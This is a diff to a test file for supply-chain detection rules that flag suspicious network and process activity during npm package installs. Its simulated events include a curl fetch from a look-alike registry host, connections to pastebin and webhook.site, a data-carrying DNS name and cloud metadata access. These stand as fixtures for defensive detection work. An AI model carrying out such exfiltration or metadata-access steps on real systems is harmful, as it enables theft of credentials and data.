@@ -18,6 +18,8 @@ const CRED_FILE = 'Credential File Read From a Package Install Subtree';
 const MEM = "Another Process's Memory Read Through /proc/PID/mem";
 const MINER = 'Cryptocurrency Miner Launched';
 const CORR = 'Install Script Then Shell Then Non-Registry Egress Within Two Minutes';
+const UNNAMED_PORT = 'Install Subtree Connecting to an Unnamed Address on a Non-Web Port or Cloud Metadata';
+const NAMED_HUNT = 'Script Runtime in an Install Subtree Fetching From a Named Non-Registry Host (hunting)';
 
 const PACK_DIR = join(REPO, 'rules/t1195.001/hardened');
 const NODE_WIN = 'C:\\Program Files\\nodejs\\node.exe';
@@ -97,26 +99,42 @@ describe('install-time suspicious execution', () => {
     c.connect(gyp, '104.20.22.46');
     const msb = c.spawn(gyp, 'C:\\VS\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe', 'MSBuild.exe build/binding.sln /p:Configuration=Release');
     c.spawn(msb, 'C:\\VS\\VC\\bin\\HostX64\\x64\\CL.exe', 'CL.exe /c /O2 ..\\src\\addon.cc');
-    expect(await alertTitles(c)).toEqual([]);
+    // Only node-gyp's header download, as a hunting signal.
+    expect(await alertTitles(c)).toEqual([NAMED_HUNT]);
   });
 });
 
 describe('install-time egress', () => {
   it('judges destinations by name, exact or subdomain, never by substring', async () => {
     const { c, node } = linuxInstall();
+    const curl = c.spawn(node, '/usr/bin/curl', 'curl -s https://registry.npmjs.org.evil.example/x');
+    c.connect(curl, '198.51.100.7', 'registry.npmjs.org.evil.example');
+    c.connect(curl, '104.16.1.35', 'registry.npmjs.org');
+    // The same look-alike fetched by node over HTTPS is a download step's shape: a low hunting alert.
     c.connect(node, '198.51.100.7', 'registry.npmjs.org.evil.example');
     c.connect(node, '104.16.1.35', 'registry.npmjs.org');
-    expect(await alertTitles(c)).toEqual([EGRESS]);
+    expect(await alertTitles(c)).toEqual([EXEC, EGRESS, NAMED_HUNT]);
   });
 
-  it('names an IP from a DNS answer and alerts by IP when no name is known (cloud metadata)', async () => {
+  it('a runtime reaching an exfiltration or callback service, or a name carrying data, is high', async () => {
+    const { c, node } = linuxInstall();
+    c.resolve(node, 'pastebin.com', '198.51.100.20');
+    c.connect(node, '198.51.100.20');
+    c.resolve(node, 'x.webhook.site', '198.51.100.21');
+    c.resolve(node, '6465762d77732d303333.1613.cb.research.example', '198.51.100.22');
+    c.resolve(node, 'storage.googleapis.com', '198.51.100.23');
+    c.connect(node, '198.51.100.23');
+    expect(await alertTitles(c)).toEqual([DNS, EGRESS, DNS, DNS, NAMED_HUNT]);
+  });
+
+  it('names an IP from a DNS answer; with no name known the unnamed-egress policy rates it (cloud metadata: medium)', async () => {
     const { c, node } = linuxInstall();
     c.resolve(node, 'exfil.example', '203.0.113.5');
     c.connect(node, '203.0.113.5');
     c.connect(node, '169.254.169.254');
     c.resolve(node, 'registry.npmjs.org', '104.16.1.35');
     c.connect(node, '104.16.1.35');
-    expect(await alertTitles(c)).toEqual([DNS, EGRESS, EGRESS]);
+    expect(await alertTitles(c)).toEqual([NAMED_HUNT, UNNAMED_PORT]);
   });
 
   it('ignores DNS to a resolver on the local network, not DNS sent straight to a public address', async () => {
@@ -124,7 +142,7 @@ describe('install-time egress', () => {
     c.connect(node, '10.255.255.53', undefined, 10, 53);
     c.connect(node, '127.0.0.53', undefined, 10, 53);
     c.connect(node, '198.51.100.53', undefined, 10, 53);
-    expect(await alertTitles(c)).toEqual([EGRESS]);
+    expect(await alertTitles(c)).toEqual([UNNAMED_PORT]);
   });
 
   it('accepts GitHub release assets and nodejs.org only when node itself fetches them', async () => {
@@ -209,7 +227,7 @@ describe('the install-script → shell → egress correlation', () => {
   function sequence(egressDelay: number): Chain {
     const { c, node } = linuxInstall('pkg', 'node setup_bun.js', '2026-05-01T10:00:00Z');
     const sh = c.spawn(node, '/bin/sh', '/bin/sh -c bun --version || echo missing');
-    const helper = c.spawn(sh, '/usr/bin/node', 'node fetch.js');
+    const helper = c.spawn(sh, '/usr/bin/curl', 'curl -fsSL https://bun.sh/install', { dt: 10 });
     c.connect(helper, '104.21.56.130', 'bun.sh', egressDelay);
     return c;
   }
